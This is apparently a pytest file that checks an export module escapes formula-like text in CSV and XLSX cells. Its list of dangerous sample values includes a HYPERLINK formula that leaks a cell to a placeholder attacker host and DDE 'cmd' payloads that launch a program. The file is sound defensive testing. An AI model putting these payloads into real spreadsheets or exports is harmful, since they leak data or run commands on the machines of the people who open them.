"""Exported cells cannot run as spreadsheet formulas (CSV and XLSX)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from ihs.exports import escape_cell, to_csv_bytes, to_xlsx_bytes

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")',
    "+1",
    "-1+2",
    "@SUM(A1:A9)",
    "=1+1",
    "\t=cmd|' /C calc'!A0",
    "\r=1",
    "=cmd|' /C calc'!A0",
]
HARMLESS = ["Kerourien", "1 789 abonnés", "réunion = succès", "", "a-b", "18 %"]


@pytest.mark.parametrize("value", DANGEROUS, ids=range(len(DANGEROUS)))
def test_formula_like_text_gets_a_leading_apostrophe(value):
    assert escape_cell(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS, ids=range(len(HARMLESS)))
def test_ordinary_text_is_left_alone(value):
    assert escape_cell(value) == value


def test_numbers_stay_numbers():
    assert escape_cell(-3) == -3 and escape_cell(2.5) == 2.5


def _frame() -> pd.DataFrame:
    return pd.DataFrame({"note": DANGEROUS + HARMLESS, "n": range(len(DANGEROUS + HARMLESS))})


def test_csv_cells_are_escaped():
    text = to_csv_bytes(_frame()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    # A bare carriage return inside an unquoted cell starts a new row in Excel (and in csv.reader):
    # the rest of the cell would then begin a line, unescaped.
    assert len(rows) == len(_frame()) + 1, "a cell broke its row in two"
    notes = [row[0] for row in rows[1:]]
    for value in DANGEROUS:
        assert "'" + value in notes, value
    for cell in notes:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_xlsx_cells_are_text_not_formulas():
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(_frame())))
    sheet = book.active
    values = [sheet.cell(row=r, column=1).value for r in range(2, sheet.max_row + 1)]
    for r in range(2, sheet.max_row + 1):
        assert sheet.cell(row=r, column=1).data_type != "f"
    for value in DANGEROUS:
        assert "'" + value in values, value
